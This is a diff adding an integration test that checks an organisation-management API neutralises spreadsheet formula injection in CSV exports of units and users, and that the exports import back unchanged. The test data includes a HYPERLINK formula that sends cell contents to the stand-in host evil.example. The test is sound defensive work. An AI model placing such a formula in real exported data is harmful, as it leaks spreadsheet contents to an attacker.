@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { buildOrganisation, createUnits, PASSWORD, PEOPLE, signIn, TREE, type Organisation, type PersonKey } from './factories/organisation.factory';
 import { eventually } from './helpers/eventually';
@@ -296,6 +297,33 @@ describe('Organisation', () => {
       const res = await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', exported.body as Buffer, 'export.xlsx').expect(200);
       expect(res.body.created).toBe(0);
       expect(res.body.updated).toBe(0);
+    });
+
+    it('neutralises text a spreadsheet would run as a formula in CSV exports; the export imports back unchanged', async () => {
+      const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Xem chi tiết")';
+      const created = await stack.http().post('/api/units').set(auth(org.adminToken)).send({ code: 'CSV-INJ', nameVi: formula, nameEn: '-1+1', level: 'other', parentId: org.unitIds.BCD }).expect(201);
+      const unitId = created.body.id as string;
+      await stack.http().post('/api/users').set(auth(org.adminToken)).send({ email: 'csv.inj@x.vn', name: '@SUM(1+1)', phone: '+84 912 345 678', roles: ['OFFICER'], unitId }).expect(201);
+
+      const exported = async (path: string, key: string, value: string) => {
+        const text = (await stack.http().get(`${path}?format=csv`).set(auth(org.adminToken)).expect(200)).text.replace(/^\uFEFF/, '');
+        const [header, ...lines] = text.trimEnd().split(/\r?\n/);
+        const line = lines.find((l) => l.startsWith(`${value},`))!;
+        const record = parse<Record<string, string>>(`${header}\n${line}`, { columns: true });
+        expect(record[0][key]).toBe(value);
+        return { file: Buffer.from(`${header}\n${line}\n`), cells: record[0] };
+      };
+      const units = await exported('/api/units/export', 'code', 'CSV-INJ');
+      expect(units.cells).toMatchObject({ name_vi: `'${formula}`, name_en: "'-1+1", parent_code: 'BCD' });
+      const users = await exported('/api/users/export', 'email', 'csv.inj@x.vn');
+      expect(users.cells).toMatchObject({ name: "'@SUM(1+1)", phone: "'+84 912 345 678", unit_code: 'CSV-INJ' });
+
+      const unitsBack = await stack.http().post('/api/units/import').set(auth(org.adminToken)).attach('file', units.file, 'units.csv').expect(200);
+      expect(unitsBack.body).toMatchObject({ rows: 1, created: 0, updated: 0, unchanged: 1 });
+      const usersBack = await stack.http().post('/api/users/import').set(auth(org.adminToken)).attach('file', users.file, 'users.csv').expect(200);
+      expect(usersBack.body).toMatchObject({ rows: 1, created: 0, updated: 0, unchanged: 1 });
+      const unitNow = await stack.http().get(`/api/units/${unitId}`).set(auth(org.adminToken)).expect(200);
+      expect(unitNow.body).toMatchObject({ nameVi: formula, nameEn: '-1+1' });
     });
 
     it('imports users all-or-nothing, then invites the new ones by email', async () => {
